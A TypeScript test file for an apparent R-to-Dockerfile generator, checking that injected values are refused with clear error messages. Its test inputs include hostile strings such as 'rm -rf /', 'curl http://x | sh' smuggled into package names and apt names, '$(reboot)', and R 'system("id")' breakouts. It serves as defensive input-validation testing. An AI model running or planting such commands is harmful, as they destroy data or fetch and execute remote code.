import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { generateDockerignore, renderDockerfile, restoreScript, type DockerfileSpec } from '../../../src/core/docker';
import { checkAptPackage, IMAGE_REFERENCE } from '../../../src/core/docker/validate';
import { AppError } from '../../../src/core/errors';
import type { RPackage } from '../../../src/core/project/model';
import { descriptionProject, renvProject, dockerfileOf } from './projects';

/** Runs `fn` and returns the AppError it throws (failing the test when it throws nothing else). */
function unsafe(fn: () => unknown): string {
  try {
    fn();
  } catch (e) {
    expect(e).toBeInstanceOf(AppError);
    expect((e as AppError).code).toBe('unsafe-value');
    return (e as AppError).message;
  }
  throw new Error('expected an unsafe-value error');
}

const pkg = (name: string, version = '1.0.0'): RPackage => ({ name, version, source: 'repository' });

describe('hostile values are refused with one clear sentence', () => {
  it('R version with a shell command', () => {
    expect(unsafe(() => dockerfileOf(renvProject({ rVersion: '4.3; rm -rf /' })))).toBe(
      'R version "4.3; rm -rf /" is not a version like 4.3.2. Fix the R version in the lockfile.',
    );
  });

  it('R version is checked even when the base image is overridden', () => {
    expect(unsafe(() => dockerfileOf(renvProject({ rVersion: '4.3\nRUN id' }), { baseImage: 'r-base:4.3' }))).toMatch(/^R version "4.3\\nRUN id" is not/);
  });

  it('package name with a newline', () => {
    const project = renvProject({ packages: [pkg('jsonlite'), pkg('evil\nRUN curl http://x | sh')] });
    expect(unsafe(() => dockerfileOf(project))).toBe(
      'Package name "evil\\nRUN curl http://x | sh" is not a valid R package name (letters, digits and dots). Fix the package list in the lockfile or DESCRIPTION.',
    );
  });

  it.each(['$(reboot)', 'a"b', "x'); system('id", 'a b', 'jsonlite;id', '`id`'])('package name %j', (name) => {
    expect(unsafe(() => dockerfileOf({ ...descriptionProject(), packages: [pkg(name)] }))).toMatch(/^Package name /);
  });

  it('package version with R code', () => {
    expect(unsafe(() => dockerfileOf(renvProject({ packages: [pkg('jsonlite', '1.0"); system("id')] })))).toBe(
      'Version of package jsonlite "1.0\\"); system(\\"id" is not an R package version like 1.2.3. Fix the version in the lockfile.',
    );
  });

  it('base image with a space', () => {
    expect(unsafe(() => dockerfileOf(renvProject(), { baseImage: 'rocker/r-ver:4.3 AS x' }))).toBe(
      'Base image "rocker/r-ver:4.3 AS x" is not a Docker image reference like rocker/r-ver:4.3.2. Fix "baseImage" in rdeploy.json or the --base-image option.',
    );
  });

  it.each(['$(whoami)/img', 'img:${TAG}', 'img\nRUN id', 'Rocker/R', 'img:tag;id', ''])('base image %j', (image) => {
    expect(unsafe(() => dockerfileOf(renvProject(), { baseImage: image }))).toMatch(/^Base image ".*" is not a Docker image reference/s);
  });

  it('accepts real image references', () => {
    for (const ok of ['rocker/r-ver:4.3.2', 'rdeploy-test/r-base:bookworm', 'localhost:5000/team/r:latest', `r-base@sha256:${'a'.repeat(64)}`, 'ghcr.io/o/r-ver:4.4.1-jammy']) {
      expect(IMAGE_REFERENCE.test(ok), ok).toBe(true);
    }
  });

  it('handler with a semicolon', () => {
    expect(unsafe(() => dockerfileOf(renvProject({ handler: 'score.score; rm -rf /' })))).toBe(
      'Handler "score.score; rm -rf /" is not of the form file.function, like score.score. Fix "handler" in rdeploy.json.',
    );
  });

  it('exclude pattern with a newline is refused; a "!" re-inclusion is the user\'s explicit choice', () => {
    expect(unsafe(() => generateDockerignore(renvProject(), ['data\n!.Renviron']))).toBe(
      'Exclude pattern "data\\n!.Renviron" is not a single-line file pattern (no newline, not starting with "#" or "!!"). Fix "exclude" in rdeploy.json: each entry is one pattern that leaves files out of the image (or "!pattern" to keep them).',
    );
    expect(unsafe(() => generateDockerignore(renvProject(), ['!!.env']))).toMatch(/^Exclude pattern "!!.env" is not/);
    expect(generateDockerignore(renvProject(), ['!.env']).trimEnd().split('\n').pop()).toBe('!.env');
  });

  it('label values: any text is quoted and escaped, line breaks and control characters are refused', () => {
    expect(unsafe(() => dockerfileOf(renvProject(), { name: 'x" \\\nLABEL evil="1' }))).toBe(
      'Label org.opencontainers.image.title "x\\" \\\\\\nLABEL evil=\\"1" is not one line of text without control characters (at most 500 characters). Rename the project folder.',
    );
    expect(unsafe(() => dockerfileOf(renvProject(), { name: 'tab\there' }))).toMatch(/^Label org.opencontainers.image.title "tab\\there" is not one line/);
    const text = renderDockerfile(dockerfileOf(renvProject(), { name: 'model $(id) "q" \\ modèle' }));
    expect(text).toContain('org.opencontainers.image.title="model \\$(id) \\"q\\" \\\\ modèle"');
  });

  it('apt package name injection', () => {
    expect(unsafe(() => checkAptPackage('libxml2-dev && curl http://x | sh'))).toBe(
      'System package "libxml2-dev && curl http://x | sh" is not a Debian package name like libxml2-dev.',
    );
  });

  it('repository URL that would break out of the R string in the restore script', () => {
    const project = { ...descriptionProject(), repositories: [{ name: 'CRAN', url: 'https://x.org"); system("id' }] };
    expect(unsafe(() => dockerfileOf(project))).toBe(
      'URL of repository CRAN "https://x.org\\"); system(\\"id" is not a plain http(s) URL. Fix the repositories in the lockfile.',
    );
    expect(unsafe(() => restoreScript({ kind: 'packages', packages: ['a"b'], repositories: [] }))).toMatch(/^Package name "a\\"b"/);
  });

  it('the renderer refuses a line break that a generator bug let through', () => {
    const spec: DockerfileSpec = { ...dockerfileOf(renvProject()), instructions: [{ kind: 'run', command: 'true\nRUN id' }] };
    expect(() => renderDockerfile(spec)).toThrow(/line break/);
    const env: DockerfileSpec = { ...spec, instructions: [{ kind: 'env', vars: [['A', '$(id)']] }] };
    expect(() => renderDockerfile(env)).toThrow(/Unsafe ENV value/);
  });

  it('property: any project name either is refused or adds no line to the Dockerfile', () => {
    const lines = renderDockerfile(dockerfileOf(renvProject())).split('\n').length;
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (name) => {
        let text: string;
        try {
          text = renderDockerfile(dockerfileOf(renvProject(), { name }));
        } catch (e) {
          return e instanceof AppError && e.code === 'unsafe-value';
        }
        return text.split('\n').length === lines && !/["$`\\]/.test(name);
      }),
    );
  });
});
